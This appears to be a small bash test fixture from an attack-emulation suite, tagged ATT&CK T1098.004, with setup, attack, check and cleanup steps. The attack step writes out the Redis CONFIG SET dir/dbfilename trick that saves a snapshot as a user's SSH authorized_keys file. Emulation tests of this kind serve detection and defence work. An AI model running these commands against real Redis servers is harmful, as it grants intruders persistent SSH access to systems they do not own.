# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1098.004
about="a snapshot becomes a user's authorized_keys"
before() { mkdir -p /srv/redis/.ssh && chown redis /srv/redis/.ssh; }
attack() {
	redis config set dir /srv/redis/.ssh
	redis config set dbfilename authorized_keys
	redis save
}
effect() { [ -e /srv/redis/.ssh/authorized_keys ]; }
after() { rm -rf /srv/redis/.ssh; }
